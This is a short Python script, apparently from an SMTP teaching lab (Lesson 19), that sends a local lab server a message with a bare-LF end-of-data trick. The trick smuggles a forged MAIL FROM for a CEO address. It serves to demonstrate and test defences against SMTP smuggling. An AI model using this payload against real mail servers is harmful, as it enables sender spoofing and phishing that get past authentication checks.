#!/usr/bin/env python3
"""Send one message with a bare-LF end-of-data trick to `smtplab serve`.

Lesson 19 (SMTP smuggling). The body contains "\\n.\\n" followed by a
forged MAIL FROM, then the real end "\\r\\n.\\r\\n". A server that took
LF . LF as the end of the data would run the forged command; smtplab's
server reads on to the real end and refuses the message (554 5.6.0).

    smtplab serve            # in one terminal
    python3 scripts/bare-lf.py [PORT]   # in another (default port 2525)
"""
import socket
import sys
import time

port = int(sys.argv[1]) if len(sys.argv) > 1 else 2525
s = socket.create_connection(("127.0.0.1", port))
s.sendall(b"EHLO me.test\r\nMAIL FROM:<me@outside.test>\r\nRCPT TO:<alice@yahoo.test>\r\nDATA\r\n")
time.sleep(1)
body = b"Subject: hi\r\n\r\nfirst\n.\nMAIL FROM:<ceo@yahoo.test>\r\nsecond\r\n.\r\n"
print("C: " + repr(body))
s.sendall(body + b"QUIT\r\n")
time.sleep(1)
print(s.recv(65536).decode(), end="")
